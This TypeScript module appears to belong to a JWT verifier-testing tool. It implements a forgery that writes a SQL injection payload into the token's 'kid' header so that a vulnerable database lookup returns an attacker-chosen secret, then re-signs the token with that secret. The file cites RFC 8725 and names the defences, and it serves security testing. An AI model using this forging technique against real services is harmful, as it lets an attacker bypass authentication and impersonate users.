import type { Forging } from './attack';
import { cannot, signatureChange, toUtf8, withOriginal } from './parts';
import { hmacName, signedWithSecret } from './with-secret';

/** What the injected query answers, and so what the verifier takes for the secret. */
const ANSWER = 'known-to-the-attacker';

export const kidSql: Forging = {
  changes:
    'Sets "kid" to a piece of SQL that makes the database answer with a secret of the attacker’s choice, and signs with that.',
  why: 'A verifier that pastes "kid" into a query asks the attacker for the key.',
  stops: 'Queries with parameters; or looking the kid up in a table in memory.',
  source: 'RFC 8725 §3.10',
  needs: ['hmac'],
  forge(token, tools) {
    const { hmac } = tools;
    if (!hmac) return cannot('HMAC is needed.');
    return withOriginal(token, (original) => {
      const kid = `nobody' UNION SELECT '${ANSWER}' -- `;
      const { token: forged, changes } = signedWithSecret(
        original,
        tools,
        hmac,
        { alg: hmacName(original.header['alg']), kid },
        toUtf8(ANSWER),
      );
      return {
        ok: true,
        tokens: [forged],
        changes: [...changes, signatureChange('HMAC with the secret that the query answers')],
      };
    });
  },
};
